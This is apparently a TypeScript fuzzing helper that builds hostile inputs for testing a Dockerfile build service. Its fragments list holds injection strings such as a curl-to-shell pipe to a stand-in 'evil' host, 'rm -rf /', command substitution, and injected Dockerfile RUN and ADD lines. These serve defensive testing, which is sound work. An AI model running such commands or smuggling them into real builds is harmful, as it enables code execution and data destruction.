// fast-check arbitraries for hostile input: the pieces that break Dockerfiles, shells, JSON and databases, mixed
// with ordinary text, and build specs whose every string field may hold them.
import fc from 'fast-check';
import type { BuildSpec } from '../../core/build-types.ts';

/** Fragments an attacker would try in any string that may reach a Dockerfile or a shell. */
export const fragments = [
  '\n', '\r\n', '\r', '\\\n', '\\', '\\\\', '"', "'", '`', '$', '$(id)', '`id`', '${PATH}', '$HOME', '${x:-y}',
  ' && curl evil | sh', '; rm -rf /', '| sh', '\nRUN touch /pwned', '\nUSER root', '\nADD http://evil/x /', 'FROM scratch',
  '<<EOF', '<<-EOF\nid\nEOF', 'EOF', '# escape=`', '# syntax=evil/x', '--chown=0:0', '--from=evil', '["a"]', '[', ']', ',',
  '=', ' ', '\t', '\u0000', '\u0007', '\u001b[31m', '\u007f', '\u0085', '\u2028', '\u2029', '\ufeff', '\ud800', '\udc00',
  'é', '☃', '🦀', '../', '..', '/', '/etc/passwd', '%00', '%0a', '*', '?', '~', '{{7*7}}', '<script>', 'NUL', 'null',
];

export const hostileFragment = fc.constantFrom(...fragments);

/** A string made of hostile fragments and arbitrary text (including unusual code points). */
export const hostileString = (maxPieces = 5) =>
  fc.array(fc.oneof({ weight: 3, arbitrary: hostileFragment }, { weight: 1, arbitrary: fc.string({ maxLength: 8, unit: 'binary' }) }, fc.string({ maxLength: 8 })), {
    minLength: 1,
    maxLength: maxPieces,
  }).map((parts) => parts.join(''));

/** A value the grammars accept, sometimes with a hostile string inside (`arbitrary` picks the mix). */
const validSegment = fc.stringMatching(/^[a-z0-9][a-z0-9._-]{0,11}$/);
export const validBinaryPath = fc.array(validSegment, { minLength: 1, maxLength: 4 }).map((s) => `/${s.join('/')}`).filter((p) => !p.split('/').includes('..'));
export const validEnvKey = fc.stringMatching(/^[A-Za-z_][A-Za-z0-9_]{0,15}$/);
export const validImage = fc
  .tuple(fc.stringMatching(/^[a-z0-9]+(?:[._-][a-z0-9]+)?(?:\/[a-z0-9]+)?$/), fc.stringMatching(/^[A-Za-z0-9_][A-Za-z0-9_.-]{0,20}$/))
  .map(([r, t]) => `${r}:${t}`);
/** Exec arguments and env values may hold anything printable: they must be built as the literal. */
export const legalText = fc
  .array(fc.oneof(hostileFragment, fc.string({ maxLength: 10 }), fc.string({ maxLength: 6, unit: 'grapheme' })), { maxLength: 5 })
  .map((p) => p.join('').replace(/[\u0000-\u0008\u000a-\u001f\u007f]/g, '').replace(/\p{Cs}/gu, ''));

const maybeHostile = <T>(valid: fc.Arbitrary<T>, weight = 6) => fc.oneof({ weight, arbitrary: valid as fc.Arbitrary<T | string> }, { weight: 1, arbitrary: hostileString() });

/** The spec fields a user writes (queue class and timeout are not strings a Dockerfile could carry). */
export type FuzzSpec = Omit<BuildSpec, 'priority' | 'timeoutSeconds'>;

/** Build specs whose every string field may be hostile; many are still legal, and must then be built literally. */
export const fuzzSpec = (opts: { uploadId: fc.Arbitrary<string>; components: string[] }): fc.Arbitrary<FuzzSpec> =>
  fc.record(
    {
      root: maybeHostile(fc.constant('debian-bookworm'), 8),
      components: fc.array(maybeHostile(fc.constantFrom(...opts.components), 6), { maxLength: 3 }),
      uploadId: maybeHostile(opts.uploadId, 8),
      binaryPath: maybeHostile(validBinaryPath),
      entrypoint: fc.array(maybeHostile(legalText), { minLength: 1, maxLength: 4 }),
      cmd: fc.array(maybeHostile(legalText), { maxLength: 3 }),
      env: fc.dictionary(maybeHostile(validEnvKey), maybeHostile(legalText), { maxKeys: 4 }),
      image: maybeHostile(validImage),
    },
    { requiredKeys: ['root', 'components', 'uploadId', 'binaryPath', 'entrypoint', 'image'] },
  ) as fc.Arbitrary<FuzzSpec>;

/** The fields a problem about `spec` may name: its own fields, an index into an array, a key of env. */
export function isSpecField(field: string, prefix = ''): boolean {
  const f = prefix && field.startsWith(prefix) ? field.slice(prefix.length) : field;
  return /^(root|uploadId|binaryPath|image|repository|env|components\[\d+\]|entrypoint(\[\d+\])?|cmd\[\d+\]|env\..+)$/s.test(f);
}
